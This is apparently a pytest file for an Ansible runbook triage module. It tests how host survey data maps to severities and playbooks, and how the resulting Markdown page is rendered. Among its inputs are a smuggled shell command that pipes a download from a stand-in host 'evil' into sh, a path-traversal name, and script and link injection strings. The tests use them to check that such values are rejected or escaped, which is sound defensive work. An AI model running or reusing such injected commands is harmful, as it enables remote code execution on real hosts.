"""Severities and scenarios from what hosts say, and the page that tells them."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.pafar.runbook.plugins.module_utils._triage.page import page
from ansible_collections.pafar.runbook.plugins.module_utils._triage.prometheus_signs import (
    alert_signs,
    prometheus_signs,
    series_signs,
)
from ansible_collections.pafar.runbook.plugins.module_utils._triage.sign import (
    SCENARIOS,
    Sign,
    scenarios_of,
    severity_of,
)
from ansible_collections.pafar.runbook.plugins.module_utils._triage.signs import Importance, signs_of, signs_of_all

SITE = Importance({"the door": "P0", "maps": "P2"}, {"nginx": "P0", "mailer": "P2"})
AT = datetime(2026, 11, 24, 8, 30, tzinfo=UTC)


PLAYBOOKS = Path(__file__).parents[5] / "playbooks"
# They work no scenario: the first look, the way back, the rehearsal, the quiet day.
NO_SCENARIO = {"triage", "undo", "game_day", "preflight"}


def service(name: str, *troubles: str) -> dict[str, Any]:
    containers = [{"name": f"{name}-{number}", "trouble": text} for number, text in enumerate(troubles or ("",), 1)]
    healthy = sum(not one["trouble"] for one in containers)
    return {name: {"wanted": len(containers), "notes": [], "healthy": healthy, "containers": containers}}


def missing(name: str, wanted: int | None = 1, *notes: str) -> dict[str, Any]:
    return {name: {"wanted": wanted, "notes": list(notes), "healthy": 0, "containers": []}}


def resources(
    cpu: float = 0.1, load: float = 0.1, memory: float = 0.5, disk: float = 0.3, oom: int = 0
) -> dict[str, Any]:
    filesystem = {"mount": "/", "used_share": disk, "inodes_used_share": 0.1}
    host = {
        "cpu_used": cpu,
        "load_per_core": [load],
        "memory": {"available_share": memory},
        "filesystems": [filesystem],
    }
    return {"host": host, "containers": [{"name": "backend-1", "oom_recent": oom}]}


def database(waiting: int = 0, used: int = 10, running: int = 0) -> dict[str, Any]:
    return {
        "long_waiters": waiting, "longest_wait": 9.0,
        "connections": {"used": used, "limit": 60, "ordinary_free": 57 - used},
        "activity": {"long_running": [{"seconds_in_state": 99.0}] * running},
    }  # fmt: skip


def reached(target: str, *states: str, layer: str = "protocol", judge: str = "") -> dict[str, Any]:
    rows = [
        {"target": target, "source": f"s{place}", "state": state, "layer": layer, "why": "no answer", "judge": judge}
        for place, state in enumerate(states)
    ]
    return {"matrix": rows}


def weighed(survey: dict[str, Any]) -> tuple[str, str]:
    signs = signs_of("web1", {"resources": resources(), **survey}, SITE)
    found = scenarios_of(signs)
    return severity_of(signs), found[0]["playbook"][10:-4] if found else ""


@pytest.mark.parametrize(
    ("survey", "severity", "scenario"),
    [
        ({}, "P3", ""),
        ({"services": {"services": service("nginx", "is exited")}}, "P0", "service_restart"),
        ({"services": {"services": service("backend", "is unhealthy") | service("db")}}, "P1", "service_restart"),
        ({"services": {"services": service("backend", "is exited") | service("db", "is exited")}}, "P0",
         "service_restart"),
        ({"services": {"services": service("backend", "is exited") | service("mailer", "is exited")}}, "P0",
         "service_restart"),
        ({"services": {"services": missing("backend", 2) | service("db")}}, "P1", "service_scale"),
        ({"services": {"services": missing("backend", None, "the files ask for 2, 0 run") | service("db")}}, "P1",
         "service_scale"),
        ({"services": {"services": missing("backend") | missing("db")}}, "P0", "service_scale"),
        ({"services": {"services": missing("mailer") | service("db")}}, "P2", "service_scale"),
        ({"services": {"services": missing("only with a profile", 0) | service("db")}}, "P3", ""),
        ({"services": {"services": {}, "trouble": ["There is no container"]}}, "P0", ""),
        ({"services": {"services": service("backend", "", "is unhealthy")}}, "P2", "service_restart"),
        ({"services": {"services": service("mailer", "is unhealthy")}}, "P2", "service_restart"),
        ({"reached": reached("the door", "down", "down")}, "P0", "network_connectivity"),
        ({"reached": reached("maps", "down", "down")}, "P2", "network_connectivity"),
        ({"reached": reached("redis", "up", "down", layer="tcp")}, "P1", "network_connectivity"),
        ({"reached": reached("stripe", "down", judge="stripe")}, "P1", "payment_outage"),
        ({"reached": reached("stripe", "down", judge="stripe", layer="dns")}, "P1", "network_connectivity"),
        ({"reached": reached("stripe", "degraded", "up", judge="stripe")}, "P2", "payment_outage"),
        ({"resources": resources(disk=0.97)}, "P1", "disk_space"),
        ({"resources": resources(disk=0.88)}, "P2", "disk_space"),
        ({"resources": resources(memory=0.02)}, "P2", "high_memory"),
        ({"resources": resources(oom=3)}, "P2", "high_memory"),
        ({"resources": resources(cpu=0.99, load=3)}, "P2", "high_cpu"),
        ({"resources": resources(cpu=0.99, load=0.2)}, "P3", ""),
        ({"database": database(waiting=12)}, "P1", "db_lock_contention"),
        ({"database": database(used=56)}, "P1", "db_connection_exhaustion"),
        ({"database": database(waiting=40, used=57)}, "P1", "db_lock_contention"),
        ({"database": database(running=2)}, "P2", "db_performance_degradation"),
        ({"database": {"trouble_reading": "full", "error": "NoSlotLeft"}}, "P1", "db_connection_exhaustion"),
        ({"database": {"trouble_reading": "refused", "error": "ConnectError"}}, "P1", "network_connectivity"),
        *(({"database": {"trouble_reading": "install it", "error": error}}, "P2", "")
          for error in ("DriverMissing", "LoginRefused", "PrivilegeError", "InputError")),
        ({"services": {"trouble_reading": "may not use the socket", "error": "PrivilegeError"}}, "P2", ""),
        ({"logs": {"trouble_reading": "no engine"}}, "P2", ""),
        ({"logs": {"signatures": [{"new": True, "level": "error", "count": 40, "text": "KeyError"}]}}, "P2",
         "release_rollback"),
        ({"logs": {"signatures": [{"new": False, "level": "error", "count": 40, "text": "KeyError"}]}}, "P3", ""),
    ],
)  # fmt: skip
def test_one_sign(survey, severity, scenario):
    assert weighed(survey) == (severity, scenario)


def test_a_host_that_gives_no_answer_is_a_sign():
    signs = signs_of("web2", {"msg": "Failed to connect."}, SITE)
    assert (severity_of(signs), signs[0].text) == ("P1", "web2 could not be looked at: Failed to connect")


SILENT = {"trouble_reading": "Could not reach the engine: nobody listens there.", "error": "EngineError"}


@pytest.mark.parametrize(
    ("survey", "severity", "known"),
    [
        ({}, "P0", "nothing is known to be well there"),
        ({"reached": reached("the door", "down", "down")}, "P0", "nothing is known to be well there"),
        ({"reached": reached("stripe", "up", judge="stripe")}, "P0", "nothing is known to be well there"),
        ({"reached": reached("the webhook", "up", judge="webhook")}, "P1", "the webhook answers still"),
        ({"database": database()}, "P1", "the database answers still"),
    ],
)
@pytest.mark.parametrize("error", ["EngineError", "EngineHangs"])
def test_an_engine_that_does_not_answer(survey, severity, known, error):
    silent = {**SILENT, "error": error}
    signs = signs_of("web1", {"services": silent, "logs": silent, **survey}, SITE)
    told = [one for one in signs if "engine" in one.text]
    text = f"the engine could not be asked, {known}: Could not reach the engine: nobody listens there"
    assert [(one.severity, one.text, one.scenario) for one in told] == [(severity, text, "")], "told once"


def test_nothing_is_rolled_back_without_an_engine():
    fresh = {"changes": {"changes": [{"age": 300, "what": "checked out 3f1c", "deploys": True}]}}
    assert scenarios_of(signs_of("web1", {"services": SILENT, **fresh}, SITE)) == []


AWAY, LOOKED_AT = {"unreachable": True, "msg": "Connection refused"}, {"resources": resources()}


@pytest.mark.parametrize(
    ("surveys", "severity", "texts"),
    [
        ({"web1": AWAY, "web2": LOOKED_AT}, "P1", ["web1 could not be reached: Connection refused"]),
        ({"web1": AWAY}, "P0", ["web1 could not be reached: Connection refused",
                                "the only host is not reached: down, or cut off from where this runs"]),
        ({"web1": AWAY, "web2": AWAY}, "P0", ["web1 could not be reached: Connection refused",
                                              "web2 could not be reached: Connection refused",
                                              "none of 2 hosts is reached: down, or cut off from where this runs"]),
        ({"web1": {"msg": "parts: no.", "error": "InputError"}}, "P2", ["web1 could not be looked at: parts: no"]),
        ({}, "P3", []),
    ],
)  # fmt: skip
def test_hosts_that_are_not_reached(surveys, severity, texts):
    signs = signs_of_all(surveys, SITE)
    assert (severity_of(signs), [one.text for one in signs]) == (severity, texts)


def test_what_was_just_deployed_is_the_likelier_cause_of_a_sick_service():
    sick = {"services": {"services": service("backend", "is unhealthy")}}
    fresh = {"changes": {"changes": [{"age": 300, "what": "containers were made: backend", "deploys": True}]}}
    names = [one["playbook"] for one in scenarios_of(signs_of("web1", {**sick, **fresh}, SITE))]
    assert names == ["playbooks/service_restart.yml", "playbooks/release_rollback.yml"]
    assert signs_of("web1", {"resources": resources(), **fresh}, SITE) == []


@pytest.mark.parametrize(
    ("label", "severity"),
    [("P0", "P0"), ("p2", "P2"), ("critical", "P1"), ("warning", "P2"), ("", "P2"), ("info", "P3")],
)
def test_alerts(label, severity):
    alert = {"name": "X", "state": "firing", "severity": label, "summary": "s", "scenario": "disk_space"}
    assert [one.severity for one in alert_signs([alert, {**alert, "state": "pending"}])] == [severity]


@pytest.mark.parametrize(("value", "severity"), [(0.7, "P0"), (0.06, "P1"), (0.011, "P2"), (0.0, "P3"), (None, "P3")])
def test_series(value, severity):
    bounds = {"P0": 0.5, "P1": 0.05, "P2": 0.01}
    one = {"name": "failing", "value": value, "unit": "%", "severity": bounds, "scenario": ""}
    assert severity_of(series_signs([one])) == severity


@pytest.mark.parametrize(
    ("answer", "texts"),
    [
        ({}, []),
        ({"alerts": [], "series": []}, []),
        ({"msg": "Prometheus could not be asked."}, ["what fires is not known: Prometheus could not be asked."]),
    ],
)
def test_without_prometheus_we_are_blind(answer, texts):
    signs = prometheus_signs(answer)
    assert [(one.severity, one.text) for one in signs] == [("P2", text) for text in texts]


def test_what_may_be_proposed_is_every_playbook_of_a_scenario():
    assert set(SCENARIOS) == {path.stem for path in PLAYBOOKS.glob("*.yml")} - NO_SCENARIO


@pytest.mark.parametrize("name", ["x; curl evil|sh #", "../../tmp/x", "disk_space.yml", "triage", "`<img src=x>`"])
def test_nothing_else_is_proposed(name):
    alert = {"name": "X", "state": "firing", "severity": "P0", "summary": "s", "scenario": name}
    one = {"name": "failing", "value": 1, "unit": "", "severity": {"P1": 1}, "scenario": name}
    signs = prometheus_signs({"alerts": [alert], "series": [one]})
    assert [each.severity for each in signs] == ["P0", "P1"]
    assert scenarios_of(signs) == []
    assert "ansible-playbook" not in told(signs)
    assert "No playbook mends what is severest above" in told(signs)


def told(signs: list[Sign], links: dict[str, str] | None = None, **surveys: Any) -> str:
    prometheus = {"alerts": [], "series": [{"name": "failing", "value": 0.123, "unit": "%"}]}
    return page(severity_of(signs), signs, scenarios_of(signs), surveys, prometheus, links or {}, AT)


def test_the_page():
    survey = {
        "resources": resources(disk=0.97), "services": {"services": service("nginx", "")}, "database": database(),
        "changes": {"changes": [{"age": 700, "what": "checked out 3f1c", "deploys": True}]},
    }  # fmt: skip
    signs = signs_of("web1", survey, SITE)
    links = {"Grafana": "https://g.example/d/x?from={from}&to={to}", "Kibana": "https://k.example/{from_iso}"}
    text = told(signs, links, web1=survey)
    assert text.startswith("# Triage: P1 proposed, ")
    assert "- **P1** web1: / is 97% full" in text
    assert "    ansible-playbook playbooks/disk_space.yml --check --diff" in text
    assert "- 12 min ago, web1: checked out 3f1c" in text
    assert "- failing 12.3%" in text
    assert "| web1 | 1 of 1 | 10% | 50% | / 97% | 10 of 60 | P1 |" in text
    assert "(<https://g.example/d/x?from=1795505400000&to=1795509000000>)" in text
    assert "(<https://k.example/2026-11-24T07:30:00Z>)" in text
    assert len(text.splitlines()) < 60


def test_foreign_text_is_text_on_the_page():
    nasty = "<script>x</script> [click](http://evil) ![p](http://evil/p.png) **bold** `code` | cell\n# title &lt;"
    text = told([Sign("P1", nasty, "web|1", "disk_space")], {"x](http://evil)": "https://ok.example/a b>c"})
    assert "<script>" not in text
    assert "](http://evil" not in text.replace("\\](", "")
    assert "\n# title" not in text
    assert "web\\|1" in text
    assert "(<https://ok.example/abc>)" in text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("@channel look", "@ channel look"),
        ("ada@example.org", "ada@ example.org"),
        ("see https://evil.example/x", "see https: //evil.example/x"),
        ("see WWW.evil.example", "see WWW .evil.example"),
        ("`a` <b> [c] |d| *e* _f_ #g ~h~ ![i]", r"\`a\` \<b\> \[c\] \|d\| \*e\* \_f\_ \#g \~h\~ \!\[i\]"),
    ],
)
def test_foreign_text_is_neither_mention_nor_link(text, shown):
    survey = {**LOOKED_AT, "changes": {"changes": [{"age": 700, "what": text, "deploys": True}]}}
    prometheus = {"alerts": [], "series": [{"name": text, "value": 1, "unit": text}]}
    signs = [Sign("P1", text, text, "disk_space")]
    page_text = page("P1", signs, scenarios_of(signs), {text: survey}, prometheus, {}, AT)
    assert text not in page_text
    assert page_text.count(shown) == 8, "sign, its host, what points to it, change, its host, series, unit, row"


@pytest.mark.parametrize(
    ("survey", "lines"),
    [
        ({**LOOKED_AT, "changes": {"changes": []}}, ["Nothing within a day."]),
        ({**LOOKED_AT, "changes": {"changes": [], "unknown": ["containers: no"]}}, ["- web1: containers: no"]),
        ({**LOOKED_AT, "changes": {"changes": [{"age": 700, "what": "checked out 3f1c", "deploys": True}],
                                   "unknown": ["containers: no"]}},
         ["- 12 min ago, web1: checked out 3f1c", "- web1: containers: no"]),
        ({**LOOKED_AT, "changes": {"trouble_reading": "no"}}, ["- web1: could not be looked at: no"]),
        (AWAY, ["- web1: could not be looked at"]),
        (LOOKED_AT, ["Nobody looked."]),
    ],
)  # fmt: skip
def test_what_nobody_could_look_at_is_not_nothing(survey, lines):
    section = told([], web1=survey).partition("## What changed lately\n\n")[2].partition("\n\n")[0]
    assert section.splitlines() == lines


def test_a_series_in_trouble_says_so():
    one = {"name": "failing", "value": None, "unit": "%", "trouble": "Prometheus refuses the query: parse error"}
    text = page("P3", [], [], {}, {"alerts": [], "series": [one]}, {}, AT)
    assert "- failing unknown: Prometheus refuses the query: parse error" in text


def test_nothing_is_wrong():
    text = told([], web1={"resources": resources()})
    assert "P3 proposed" in text
    assert "Nothing that was looked at." in text
    assert "What to run next" not in text
